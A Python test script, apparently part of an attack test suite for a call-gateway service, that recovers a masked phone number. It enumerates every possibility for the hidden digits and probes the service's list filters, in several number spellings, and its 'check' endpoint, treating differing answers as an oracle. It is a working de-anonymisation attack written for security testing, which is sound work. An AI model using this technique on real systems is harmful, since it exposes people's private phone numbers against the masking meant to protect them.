"""A viewer, who is shown ``+44 20 79** **23``, wants the whole number of a call.

Asks for each number that the hidden digits could make: by the ``number`` filter, by the text filter in several
spellings, and by ``check``, whose answer knows of objections and of calls a moment ago. A question that finds the call
for one candidate and not for its neighbours gives the number away.

    python -m tests.attack.number_oracle /run/dialgate/control.sock --most 400

Prints ``questions``, ``hidden`` (numbers as they were shown), ``found`` (those that came out whole), and ``told`` (by
which question).
"""

from __future__ import annotations

import argparse
import itertools
import json
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

from tests.attack.key_drop import Gate

SPELLINGS: Sequence[Callable[[str], str]] = (
    lambda number: number,
    lambda number: f"0{number[3:]}",
    lambda number: f"tel:{number}",
    lambda number: f"sip:{number}@pbx",
    lambda number: f"00{number[1:]}",
    lambda number: f"+44 (0){number[3:]}",
)


def attack(path: str, most: int, candidates: Sequence[str] = ()) -> dict[str, Any]:
    """Try the hidden digits of the newest call, at most so many (``candidates`` first); what came out."""
    gate = Gate(path)
    (shown,) = gate.ask("calls_list", limit=1)["items"]
    hidden = shown["number"]
    asked = 0
    told: dict[str, set[str]] = {}

    def finds(name: str, candidate: str, yes: bool) -> None:
        nonlocal asked
        asked += 1
        if yes:
            told.setdefault(name, set()).add(candidate)

    tried = list(itertools.islice(itertools.chain(candidates, _fits(hidden)), most))
    for candidate in tried:
        for name, spell in enumerate(SPELLINGS):
            for field in ("number", "text"):
                answer = gate.ask("calls_list", limit=1, **{field: spell(candidate)})
                finds(f"calls_list {field} {name}", candidate, bool(answer.get("items")))
        answer = gate.ask("check", number=candidate)
        finds("check", candidate, answer.get("reason") in ("objected", "redial_too_soon", "consented"))
    gate.close()
    exact = {name: few for name, few in told.items() if 0 < len(few) < len(tried) / 10 + 1}
    whole = sorted(set().union(*exact.values())) if exact else []
    return {"questions": asked, "hidden": hidden, "found": whole, "told": sorted(exact), "refused": dict(gate.refused)}


def _fits(hidden: str) -> Iterator[str]:
    """Every number that looks so when it is hidden in part."""
    plain = hidden.replace(" ", "")
    for digits in itertools.product("0123456789", repeat=plain.count("*")):
        left = iter(digits)
        yield "".join(next(left) if sign == "*" else sign for sign in plain)


def main(argv: Sequence[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("socket", type=Path)
    parser.add_argument("--most", type=int, default=400)
    asked = parser.parse_args(argv)
    print(json.dumps(attack(str(asked.socket), asked.most)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
